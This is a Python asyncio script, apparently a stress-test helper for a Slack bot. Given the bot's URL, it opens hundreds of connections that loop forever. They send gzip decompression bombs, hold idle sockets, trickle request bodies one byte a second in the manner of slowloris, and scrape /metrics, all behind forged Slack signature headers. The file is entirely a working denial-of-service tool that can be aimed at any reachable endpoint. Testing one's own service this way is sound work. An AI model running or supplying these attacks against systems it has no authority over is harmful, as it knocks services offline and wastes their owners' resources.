"""Attack a bot from a process of its own, so that the attackers cost the bot only what they send.

The one argument is the bot's URL. Nothing here is signed: an attacker needs no more than the address.
"""

import asyncio
import gzip
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final
from urllib.parse import urlsplit

GZIP: Final = 4
IDLE: Final = 300
SLOW_BODIES: Final = 40
SCRAPERS: Final = 8

READY: Final = b"attacking\n"
"""What is printed once all of them are at work."""

_GZIP_BYTES: Final = 300_000  # a second, by each
_PIECES: Final = 10  # a second
_SCRAPE_PAUSE: Final = 0.05
_BOMB: Final = gzip.compress(bytes(2**28), compresslevel=9)  # 260 kB

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def _unpack(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a body that unpacks to a thousand times its size."""
    writer.write(_post(len(_BOMB), b"Content-Encoding: gzip\r\n"))
    size = _GZIP_BYTES // _PIECES
    for start in range(0, len(_BOMB), size):
        writer.write(_BOMB[start : start + size])
        await writer.drain()
        await asyncio.sleep(1 / _PIECES)


async def _idle(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
    """Send nothing until the bot closes the connection."""
    await reader.read()


async def _send_slowly(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Announce a body, and send a byte of it every second."""
    writer.write(_post(2**20))
    while not writer.is_closing():
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(1)


async def _scrape(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask for the metrics."""
    writer.write(b"GET /metrics HTTP/1.1\r\nHost: bot\r\nConnection: close\r\n\r\n")
    await reader.read()
    await asyncio.sleep(_SCRAPE_PAUSE)


def _post(length: int, more: bytes = b"") -> bytes:
    """Return the head of a request that only its signature's value distinguishes from Slack's."""
    signed = b"X-Slack-Request-Timestamp: %d\r\nX-Slack-Signature: v0=%s\r\n" % (time.time(), b"0" * 64)
    return b"POST /slack/events HTTP/1.1\r\nHost: bot\r\nContent-Length: %d\r\n%s%s\r\n" % (length, more, signed)


async def _again_and_again(attack: Attack, host: str, port: int) -> None:
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await attack(reader, writer)
            finally:
                writer.close()


async def main(url: str) -> None:
    """Attack until this process is killed."""
    address = urlsplit(url)
    attacks = [_unpack] * GZIP + [_idle] * IDLE + [_send_slowly] * SLOW_BODIES + [_scrape] * SCRAPERS
    async with asyncio.TaskGroup() as group:
        for attack in attacks:
            group.create_task(_again_and_again(attack, address.hostname or "", address.port or 0))
        await asyncio.sleep(1)
        sys.stdout.buffer.write(READY)
        sys.stdout.flush()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
